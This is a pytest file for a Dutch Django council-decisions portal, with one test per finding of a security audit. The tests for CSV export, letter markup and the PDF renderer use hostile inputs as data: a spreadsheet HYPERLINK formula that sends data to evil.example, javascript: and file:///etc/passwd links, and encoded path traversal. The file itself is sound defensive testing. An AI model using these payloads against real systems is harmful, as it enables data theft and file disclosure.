"""The findings of the security audit of 1 December 2026 (../shared/reviews/security.md), one
test each (named after the finding), each failing on the main the audit read.

The diff's cost (F1) is specified with the diff itself in tests/core/test_textdiff.py.
"""

import contextlib
import datetime

import pytest
from django.urls import reverse

from decisions.models import Decision, Process
from gr_portal.core.choices import ProcessKind
from gr_portal.core.history import with_history
from milestones.models import Milestone

pytestmark = pytest.mark.django_db

SECRET = "GEHEIM-mijlpaal-7f3a"


# --- F2: milestones of an unpublished process ------------------------------------------------


@pytest.fixture
def secret_milestone(dataset, program_office):
    process = Process.objects.create(
        title=f"Traject {SECRET}", slug="geheim-traject", kind=ProcessKind.AMENDMENT
    )
    milestone = with_history(
        Milestone(
            process=process,
            title=SECRET,
            description=f"Omschrijving {SECRET}",
            planned_start=datetime.date(2022, 9, 1),
        ),
        user=program_office,
        reason="aangemaakt",
    ).save() or Milestone.objects.get(title=SECRET)
    milestone.decisions.add(Decision.objects.get(slug="concept-gr-tekst-2022"))
    return milestone


def test_f2_milestones_of_an_unpublished_process_stay_hidden(
    client, secret_milestone, dordrecht_clerk
):
    history = reverse("history:list", kwargs={"kind": "mijlpaal", "pk": secret_milestone.pk})
    compare = reverse("history:compare", kwargs={"kind": "mijlpaal", "pk": secret_milestone.pk})
    for visitor in (None, dordrecht_clerk):
        client.logout()
        if visitor is not None:
            client.force_login(visitor)
        assert client.get(history).status_code == 404
        assert client.get(compare).status_code == 404
        version = secret_milestone.history.first().history_id
        restore = reverse(
            "history:restore",
            kwargs={"kind": "mijlpaal", "pk": secret_milestone.pk, "history_id": version},
        )
        # Anonymous visitors are sent to log in first; a signed-in griffie learns nothing.
        assert client.post(restore, {"reason": "terug"}).status_code == (
            302 if visitor is None else 404
        )
        for url in (
            "/",
            reverse("decision_detail", args=["concept-gr-tekst-2022"]),
            reverse("process_detail", args=["samenvoeging-drechtwerk-sociaal"]),
            reverse("milestones:timeline"),
            reverse("milestones:agenda"),
            reverse("milestones:municipality_agenda", args=["dordrecht"]),
            reverse("search:page") + "?q=GEHEIM",
            reverse("opendata:feed"),
            reverse("opendata:matrix_csv"),
        ):
            response = client.get(url)
            assert response.status_code == 200, url
            body = b"".join(response) if response.streaming else response.content
            assert SECRET.encode() not in body, url


# --- F4 and F10: dates out of range ------------------------------------------------------------


@pytest.mark.parametrize(
    "day", [datetime.date(9999, 12, 31), datetime.date(1, 1, 1)], ids=["9999", "0001"]
)
def test_f4_a_stored_extreme_date_breaks_no_page_feed_or_letter(client, program_office, day):
    from decisions.models import Opinion, Treatment
    from milestones.models import Letter
    from tests.milestones.letters.helpers import make_letter

    Milestone.objects.filter(pk=Milestone.objects.order_by("pk").first().pk).update(
        planned_start=day, planned_end=None, precision="month"
    )
    Milestone.objects.filter(pk=Milestone.objects.order_by("pk").last().pk).update(
        planned_start=day, planned_end=day, actual_start=day, actual_end=day, precision="day"
    )
    Treatment.objects.filter(received_on__isnull=False).update(received_on=day, planned_on=day)
    Opinion.objects.update(submitted_on=day)
    letter = make_letter()
    Letter.objects.filter(pk=letter.pk).update(letter_date=day)
    urls = [
        "/",
        reverse("milestones:timeline"),
        reverse("milestones:agenda"),
        reverse("milestones:municipality_agenda", args=["dordrecht"]),
        reverse("process_detail", args=["samenvoeging-drechtwerk-sociaal"]),
        reverse("decision_detail", args=["concept-gr-tekst-2022"]),
        reverse("municipality_detail", args=["dordrecht"]),
        reverse("decisions:status_matrix"),
        reverse("opendata:feed"),
        reverse("opendata:matrix_csv"),
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
    client.force_login(program_office)
    for url in (
        *urls,
        reverse("letters:preview", args=[letter.pk, "dordrecht"]),
    ):
        response = client.get(url)
        assert response.status_code == 200, url


def test_f10_dates_outside_1990_2100_are_refused_with_a_dutch_message(dataset):
    from django.core.exceptions import ValidationError

    milestone = Milestone.objects.order_by("pk").first()
    milestone.planned_start = datetime.date(9999, 12, 31)
    with pytest.raises(ValidationError) as refused:
        milestone.full_clean()
    assert refused.value.message_dict["planned_start"] == ["Kies een datum tussen 1990 en 2100."]
    decision = Decision.objects.get(slug="concept-gr-tekst-2022")
    decision.introduced_on = datetime.date(1, 1, 1)
    with pytest.raises(ValidationError) as refused:
        decision.full_clean()
    assert "introduced_on" in refused.value.message_dict


def test_f10_the_clerk_cannot_enter_a_zienswijze_in_the_year_9999(client, dordrecht_clerk):
    from decisions.models import Opinion

    client.force_login(dordrecht_clerk)
    url = reverse("clerk:opinion", args=["concept-gr-tekst-2022", "dordrecht"])
    before = Opinion.objects.count()
    response = client.post(
        url, {"revision": "0", "text": "Zienswijze", "submitted_on": "9999-12-31"}
    )
    assert response.status_code == 200
    assert "Kies een datum tussen 1990 en 2100." in response.content.decode()
    assert Opinion.objects.count() == before


# --- F5: the same new zienswijze saved twice ---------------------------------------------------


def test_f5_a_second_new_zienswijze_is_refused_with_the_first_shown(client, dordrecht_clerk, roles):
    from django.contrib.auth import get_user_model

    from councils.models import ClerkMembership, Municipality
    from councils.roles import CLERK
    from decisions.models import Opinion

    other = get_user_model().objects.create_user("griffie-dordrecht-2", password="x")
    other.groups.add(roles[CLERK])
    ClerkMembership.objects.create(
        user=other, municipality=Municipality.objects.get(slug="dordrecht")
    )
    url = reverse("clerk:opinion", args=["concept-gr-tekst-2022", "dordrecht"])
    client.force_login(dordrecht_clerk)
    form = client.get(url).context["form"]
    assert form.initial["revision"] == 0
    first = {"revision": "0", "text": "Zienswijze van griffier A", "submitted_on": "2022-07-20"}
    assert client.post(url, first).status_code == 302
    client.force_login(other)
    second = {"revision": "0", "text": "Zienswijze van griffier B", "submitted_on": "2022-07-20"}
    response = client.post(url, second)
    assert response.status_code == 200
    page = response.content.decode()
    assert "iemand anders" in page
    assert "Zienswijze van griffier A" in page
    assert (
        Opinion.objects.get(
            decision__slug="concept-gr-tekst-2022", municipality__slug="dordrecht"
        ).text
        == "Zienswijze van griffier A"
    )


# --- F6: spreadsheet formulas in the CSV downloads ---------------------------------------------


def test_f6_no_csv_cell_starts_a_formula(client, dataset):
    import csv
    import io

    from councils.models import Fractie
    from decisions.models import Amendment, Treatment
    from tests.recording import record_vote

    treatment = Treatment.objects.get(
        decision__slug="concept-gr-tekst-2022",
        body__municipality__slug="dordrecht",
        body__kind="council",
        round=1,
    )
    record_vote(treatment, vote_subjects=True)
    Amendment.objects.filter(treatment=treatment).update(
        code="=1+2", title='=HYPERLINK("https://evil.example/?d="&A1;"Klik hier")'
    )
    for fractie in Fractie.objects.filter(term__municipality__slug="dordrecht"):
        Fractie.objects.filter(pk=fractie.pk).update(name=f"@SUM({fractie.pk})")
    Decision.objects.filter(slug="concept-gr-tekst-2022").update(title="-2+3 Concept GR-tekst")
    for name in ("votes_csv", "matrix_csv", "member_votes_csv"):
        response = client.get(reverse(f"opendata:{name}"))
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(b"".join(response).decode())))
        cells = [cell for row in rows[1:] for cell in row]
        assert cells or name == "member_votes_csv", name  # no roll call was recorded
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], name
        if name == "votes_csv":
            assert "'=1+2" in cells
            assert "'-2+3 Concept GR-tekst" in cells


def test_f6_numbers_stay_numbers_and_formulas_become_text():
    from gr_portal.core.spreadsheet import safe_cell

    assert safe_cell(-3) == -3
    assert safe_cell("") == ""
    assert safe_cell("Dordrecht") == "Dordrecht"
    for formula in ("=1+2", "+31", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(formula) == "'" + formula


# --- F9: free text without an upper bound ------------------------------------------------------


def test_f9_a_megabyte_zienswijze_is_refused_and_nothing_saved(client, dordrecht_clerk):
    from decisions.models import Opinion

    client.force_login(dordrecht_clerk)
    url = reverse("clerk:opinion", args=["concept-gr-tekst-2022", "dordrecht"])
    before = Opinion.objects.count()
    response = client.post(
        url, {"revision": "0", "text": "A" * 1_000_000, "submitted_on": "2022-07-20"}
    )
    assert response.status_code == 200
    assert "niet meer dan 100000 tekens" in response.content.decode()
    assert Opinion.objects.count() == before


@pytest.mark.parametrize(
    ("model", "field", "limit"),
    [
        ("decisions.DecisionVersion", "text", 500_000),
        ("decisions.Treatment", "notes", 20_000),
        ("decisions.Amendment", "text", 100_000),
        ("decisions.Decision", "summary", 20_000),
        ("milestones.Milestone", "description", 20_000),
        ("milestones.Letter", "body", 100_000),
        ("milestones.Letter", "attachments", 5_000),
    ],
)
def test_f9_every_free_text_has_a_limit_that_full_clean_checks(model, field, limit):
    from django.apps import apps
    from django.core.exceptions import ValidationError

    model_field = apps.get_model(model)._meta.get_field(field)
    assert model_field.max_length == limit
    model_field.clean("x" * limit, None)
    with pytest.raises(ValidationError, match="niet meer dan"):
        model_field.clean("x" * (limit + 1), None)


# --- F3: the back office and the griffie's records ---------------------------------------------


def _form_data(response) -> dict:
    """What the browser would post back unchanged, read from the page (tests/formdata.py)."""
    from tests.formdata import main_form

    return main_form(response.content.decode()).data()


@pytest.fixture
def dordrecht_treatment(recorded_vote, dordrecht_clerk):
    from decisions.models import RecordCheck

    RecordCheck.objects.create(
        decision=recorded_vote.decision,
        municipality=recorded_vote.body.municipality,
        checked_by=dordrecht_clerk,
    )
    return recorded_vote


def test_f3_the_programmabureau_cannot_change_what_the_griffie_recorded(
    client, program_office, dordrecht_treatment
):
    from decisions.models import RecordCheck, Treatment

    treatment = dordrecht_treatment
    client.force_login(program_office)
    url = reverse("admin:decisions_treatment_change", args=[treatment.pk])
    data = _form_data(client.get(url))
    assert "notes" not in data  # read-only: not a field of the form
    data.update(
        notes="Overschreven door het programmabureau",
        outcome="rejected",
        planned_on="2022-07-01",
        change_reason="planning",
    )
    response = client.post(url, data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    stored = Treatment.objects.get(pk=treatment.pk)
    assert stored.notes == treatment.notes
    assert stored.outcome == treatment.outcome
    assert stored.planned_on == datetime.date(2022, 7, 1)  # the planning is the office's
    assert not RecordCheck.objects.filter(decision=treatment.decision).exists()


@pytest.mark.parametrize("model", ["amendment", "motion", "opinion", "vote"])
def test_f3_clerk_records_are_view_only_for_the_programmabureau(
    client, program_office, dordrecht_treatment, model
):
    from decisions.models import Opinion

    treatment = dordrecht_treatment
    objects = {
        "amendment": lambda: treatment.amendments.first(),
        "motion": lambda: treatment.motions.first(),
        "opinion": lambda: Opinion.objects.filter(decision=treatment.decision).first(),
        "vote": lambda: treatment.vote,
    }
    obj = objects[model]()
    client.force_login(program_office)
    change = reverse(f"admin:decisions_{model}_change", args=[obj.pk])
    assert client.get(change).status_code == 200  # shown, to read
    assert client.post(change, {"text": "Overschreven", "change_reason": "x"}).status_code == 403
    assert client.get(reverse(f"admin:decisions_{model}_add")).status_code == 403
    obj.refresh_from_db()
    assert getattr(obj, "text", "") != "Overschreven"


def test_f3_a_back_office_form_loaded_before_a_clerks_save_is_refused(
    client, program_office, dordrecht_treatment
):
    from decisions.models import Treatment
    from tests.decisions.history.helpers import edit

    treatment = dordrecht_treatment
    client.force_login(program_office)
    url = reverse("admin:decisions_treatment_change", args=[treatment.pk])
    data = _form_data(client.get(url))
    edit(Treatment.objects.get(pk=treatment.pk), None, "correctie", notes="Correctie griffie")
    data.update(planned_on="2022-06-15", change_reason="planning")
    response = client.post(url, data)
    assert response.status_code == 200
    assert "iemand anders wijzigde dit record intussen" in response.content.decode()
    stored = Treatment.objects.get(pk=treatment.pk)
    assert stored.notes == "Correctie griffie"
    assert stored.planned_on != datetime.date(2022, 6, 15)


# --- F7 and F13: logins and password resets behind the proxy -----------------------------------

PROXY = "10.0.0.1"


def _via_proxy(client_address):
    return {"REMOTE_ADDR": PROXY, "HTTP_X_FORWARDED_FOR": client_address}


def test_f7_the_client_address_is_read_behind_a_trusted_proxy_only(rf, settings):
    from gr_portal.accounts.throttling import client_ip

    settings.TRUSTED_PROXIES = [PROXY, "192.168.0.0/16"]
    request = rf.get("/", REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR="6.6.6.6, 203.0.113.7")
    assert client_ip(request) == "203.0.113.7"  # the right-most hop the proxy added
    request = rf.get("/", REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR="203.0.113.7, 192.168.1.5")
    assert client_ip(request) == "203.0.113.7"  # inner proxies are skipped
    request = rf.get("/", REMOTE_ADDR="198.51.100.9", HTTP_X_FORWARDED_FOR="203.0.113.7")
    assert client_ip(request) == "198.51.100.9"  # not from a proxy: the header is ignored
    request = rf.get("/", REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR="not-an-address")
    assert client_ip(request) == PROXY


def test_f7_a_stranger_behind_the_proxy_cannot_lock_a_clerk_out(client, settings, dordrecht_clerk):
    settings.TRUSTED_PROXIES = [PROXY]
    url = reverse("login")
    for _ in range(settings.AXES_FAILURE_LIMIT + 2):
        client.post(
            url, {"username": "griffie-dordrecht", "password": "fout"}, **_via_proxy("203.0.113.66")
        )
    refused = client.post(
        url,
        {"username": "griffie-dordrecht", "password": "test-password"},
        **_via_proxy("203.0.113.66"),
    )
    assert refused.status_code == 429  # the guesser is locked out
    response = client.post(
        url,
        {"username": "griffie-dordrecht", "password": "test-password"},
        **_via_proxy("198.51.100.20"),
    )
    assert response.status_code == 302  # the clerk, from elsewhere, is not
    assert settings.AXES_RESET_COOL_OFF_ON_FAILURE_DURING_LOCKOUT is False


@pytest.mark.parametrize("url_name", ["login", "admin:login"])
def test_f7_guessing_over_many_user_names_from_one_address_is_refused(
    client, settings, roles, url_name
):
    settings.LOGIN_FAILURES_PER_ADDRESS = 6
    url = reverse(url_name)
    answers = [
        client.post(url, {"username": f"gebruiker-{n}", "password": "Zomer2026!"}).status_code
        for n in range(9)
    ]
    assert answers[:6] == [200] * 6
    assert answers[6:] == [429] * 3
    page = client.post(url, {"username": "iemand", "password": "x"})
    assert "vanaf dit adres tijdelijk geblokkeerd" in page.content.decode()


def test_f13_password_reset_mails_are_limited_per_account_and_per_address(
    client, settings, mailoutbox, dordrecht_clerk
):
    dordrecht_clerk.email = "griffie@dordrecht.nl"
    dordrecht_clerk.save()
    url = reverse("password_reset")
    answers = [
        client.post(url, {"email": "griffie@dordrecht.nl"}).status_code
        for _ in range(settings.PASSWORD_RESETS_PER_ACCOUNT + 3)
    ]
    assert answers == [302] * len(answers)  # the same answer every time: nothing to learn
    assert len(mailoutbox) == settings.PASSWORD_RESETS_PER_ACCOUNT
    for n in range(settings.PASSWORD_RESETS_PER_ADDRESS):
        client.post(url, {"email": f"iemand-{n}@example.nl"})
    refused = client.post(url, {"email": "nog-iemand@example.nl"})
    assert refused.status_code == 429
    assert "te vaak een nieuw wachtwoord aangevraagd" in refused.content.decode()


# --- F14 and F15: demo accounts, login names ---------------------------------------------------


def test_f14_the_demo_password_opens_no_account_with_debug_off(client, settings, dordrecht_clerk):
    from gr_portal.accounts.backends import DEMO_PASSWORD

    dordrecht_clerk.set_password(DEMO_PASSWORD)
    dordrecht_clerk.is_staff = True
    dordrecht_clerk.save()
    credentials = {"username": "griffie-dordrecht", "password": DEMO_PASSWORD}
    settings.DEBUG = False
    assert client.post(reverse("login"), credentials).status_code == 200  # refused
    assert client.post(reverse("admin:login"), credentials).status_code == 200
    assert "_auth_user_id" not in client.session
    settings.DEBUG = True
    assert client.post(reverse("login"), credentials).status_code == 302


def test_f15_history_pages_name_the_role_not_the_login(client, dordrecht_clerk, recorded_vote):
    from tests.decisions.history.helpers import edit

    edit(recorded_vote, dordrecht_clerk, "aanvulling", notes="Nieuwe toelichting")
    url = reverse("history:list", kwargs={"kind": "behandeling", "pk": recorded_vote.pk})
    page = client.get(url).content.decode()
    assert "Griffie Dordrecht" in page
    assert "griffie-dordrecht" not in page


# --- F16 and F17: letter markup and the PDF renderer's files -----------------------------------


@pytest.mark.parametrize(
    ("body", "footnotes", "field", "message"),
    [
        ("Tekst[^1].", '[^1]: <img src="http://127.0.0.1:8301/fn.png">', "footnotes", "HTML"),
        ("Tekst[^1].", "[^1]: Zie <b>vet</b>", "footnotes", "HTML"),
        ("[klik](javascript:alert(document.domain))", "", "body", "javascript:"),
        ("[wachtwoorden](file:///etc/passwd)", "", "body", "file:"),
        ("<file:///etc/passwd>", "", "body", "file:"),
        ("Tekst[^1].", "[^1]: [x](data:text/html,hoi)", "footnotes", "data:"),
    ],
)
def test_f16_html_and_unsafe_links_in_a_letter_are_named(body, footnotes, field, message):
    from milestones.letters.markup import markup_errors

    errors = markup_errors(body, footnotes)
    assert any(message in error for error in errors.get(field, [])), errors


def test_f16_ordinary_links_stay_allowed():
    from milestones.letters.markup import markup_errors

    body = "Zie [de regeling](https://wetten.overheid.nl/) en <mailto:griffie@dordrecht.nl>."
    assert markup_errors(body, "") == {}


def test_f17_the_renderer_resolves_encoded_dot_segments_before_the_allow_list(settings):
    from django.contrib.staticfiles import finders

    from milestones.letters.rendering import StaticFilesFetcher

    stylesheet = finders.find("css/letter.css")
    fetcher = StaticFilesFetcher()
    escape = "file://" + stylesheet.rsplit("/", 1)[0] + "/%2e%2e" * 12 + "/etc/passwd"
    with pytest.raises(ValueError, match="Not a static file"):
        fetcher.fetch(escape)
    with pytest.raises(ValueError, match="Not a static file"):
        fetcher.fetch("file:///etc/passwd")
    assert fetcher.fetch("file://" + stylesheet)  # the portal's own file still loads


# --- F18: restoring a treatment -----------------------------------------------------------------


def test_f18_a_restore_decided_on_an_older_page_is_refused(client, program_office, recorded_vote):
    from decisions.models import Treatment
    from tests.decisions.history.helpers import edit

    treatment = recorded_vote
    client.force_login(program_office)
    url = reverse("history:list", kwargs={"kind": "behandeling", "pk": treatment.pk})
    page = client.get(url).content.decode()
    first = treatment.history.order_by("history_date", "history_id").first()
    shown = treatment.history.order_by("-history_date", "-history_id").first().history_id
    assert f'name="shown" value="{shown}"' in page
    edit(Treatment.objects.get(pk=treatment.pk), None, "griffie", notes="Intussen gewijzigd")
    restore = reverse(
        "history:restore",
        kwargs={"kind": "behandeling", "pk": treatment.pk, "history_id": first.history_id},
    )
    response = client.post(restore, {"reason": "terug", "shown": shown})
    assert response.status_code == 400
    assert "iemand anders wijzigde dit record intussen" in response.content.decode()
    stored = Treatment.objects.get(pk=treatment.pk)
    assert stored.notes == "Intussen gewijzigd"


def test_f18_a_restore_keeps_the_outcome_with_its_vote(program_office, recorded_vote):
    from decisions.history import services
    from decisions.models import Treatment

    treatment = recorded_vote
    first = treatment.history.order_by("history_date", "history_id").first()
    assert first.outcome == ""
    from django.core.exceptions import ValidationError

    # Refused (nothing to restore but the outcome) or restored without it: both consistent.
    with contextlib.suppress(ValidationError):
        services.restore(treatment, first.history_id, user=program_office, reason="terug")
    stored = Treatment.objects.select_related("vote").get(pk=treatment.pk)
    assert stored.outcome == recorded_vote.outcome  # the vote's outcome, not the first version's
    assert stored.vote is not None


# --- F11: autocomplete fields and bad ids ------------------------------------------------------


@pytest.mark.parametrize(
    ("url_name", "data"),
    [
        ("admin:decisions_decisionversion_add", {"decision": "abc"}),
        ("admin:milestones_milestone_add", {"bodies": ["abc", "1"], "decisions": ["x"]}),
        ("admin:decisions_treatment_add", {"decision": "1.5", "body": "-"}),
    ],
)
def test_f11_a_bad_id_in_an_autocomplete_field_is_a_form_error(
    client, program_office, url_name, data
):
    client.force_login(program_office)
    response = client.post(reverse(url_name), {**data, "change_reason": "x"})
    assert response.status_code == 200
    page = response.content.decode()
    assert "Selecteer een geldige keuze" in page or "is geen geldige waarde" in page


# --- Headers (issue 12 item 2) ------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/", "/besluiten/concept-gr-tekst-2022/", "/beheer/login/"])
def test_every_page_carries_a_content_security_policy_without_unsafe_inline(client, dataset, url):
    response = client.get(url)
    assert response.status_code == 200
    policy = dict(
        part.strip().split(" ", 1) for part in response["Content-Security-Policy"].split(";")
    )
    assert policy["default-src"] == "'self'"
    assert policy["frame-ancestors"] == "'none'"
    assert policy["object-src"] == "'none'"
    assert "unsafe-inline" not in response["Content-Security-Policy"]
    assert "camera=()" in response["Permissions-Policy"]
    assert response["Referrer-Policy"] == "same-origin"
    assert response["Cross-Origin-Opener-Policy"] == "same-origin"
    assert ' style="' not in response.content.decode()  # nothing the policy would block


@pytest.mark.page_cache
def test_a_cached_page_gets_the_headers_too(client, dataset):
    first = client.get("/")
    second = client.get("/")
    assert second["Content-Security-Policy"] == first["Content-Security-Policy"]
    assert second["Permissions-Policy"]


# --- F12: error pages (issue 12 item 3) ---------------------------------------------------------


def test_f12_every_error_answers_in_dutch_in_the_portals_layout(client, dataset, settings):
    from django.test import Client

    strict = Client(enforce_csrf_checks=True)
    refused = strict.post(reverse("login"), {"username": "x", "password": "y"})
    assert refused.status_code == 403
    too_many = client.post(reverse("login"), {f"veld{n}": "x" for n in range(1_200)})
    assert too_many.status_code == 400
    missing = client.get("/bestaat-niet/")
    assert missing.status_code == 404
    for response, words in (
        (refused, "Formulier verlopen"),
        (too_many, "Dit verzoek klopt niet"),
        (missing, "Pagina niet gevonden"),
    ):
        page = response.content.decode()
        assert '<html lang="nl"' in page
        assert words in page
        assert 'href="/"' in page  # a way on
        assert "Traceback" not in page
        assert "Forbidden" not in page


@pytest.mark.django_db(transaction=True)
def test_f5_eight_simultaneous_first_saves_of_a_zienswijze_keep_one_and_refuse_seven():
    import threading

    from django.contrib.auth import get_user_model
    from django.db import connection, connections

    from councils.models import Municipality
    from decisions import services
    from decisions.models import Opinion
    from gr_portal.dataset import load_dataset

    if connection.vendor != "postgresql":
        pytest.skip("simultaneous inserts need PostgreSQL; CI runs this test there")
    load_dataset()
    decision = Decision.objects.get(slug="concept-gr-tekst-2022")
    dordrecht = Municipality.objects.get(slug="dordrecht")
    users = [get_user_model().objects.create_user(f"griffier-{n}") for n in range(8)]
    start = threading.Barrier(len(users), timeout=10)
    results: dict[str, object] = {}

    def save(user):
        try:
            start.wait()
            services.opinion_save(
                opinion=Opinion(decision=decision, municipality=dordrecht),
                revision=0,
                user=user,
                text=f"Zienswijze van {user.username}",
                submitted_on=datetime.date(2022, 7, 20),
            )
            results[user.username] = "saved"
        except services.StaleRecord as stale:
            results[user.username] = stale
        except Exception as error:
            results[user.username] = error
        finally:
            connections.close_all()

    threads = [threading.Thread(target=save, args=(user,)) for user in users]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=30)
    kinds = sorted("saved" if r == "saved" else type(r).__name__ for r in results.values())
    assert kinds == ["StaleRecord"] * 7 + ["saved"]
    stored = Opinion.objects.get(decision=decision, municipality=dordrecht)
    winner = next(name for name, r in results.items() if r == "saved")
    assert stored.text == f"Zienswijze van {winner}"
    assert all(r.current.pk == stored.pk for r in results.values() if r != "saved")


def test_pages_for_signed_in_users_are_private(client, council_member, dataset):
    client.force_login(council_member)
    response = client.get("/")
    assert response["Cache-Control"] == "private, no-cache"
    client.logout()
    client.cookies.clear()
    assert "private" not in client.get("/").get("Cache-Control", "")
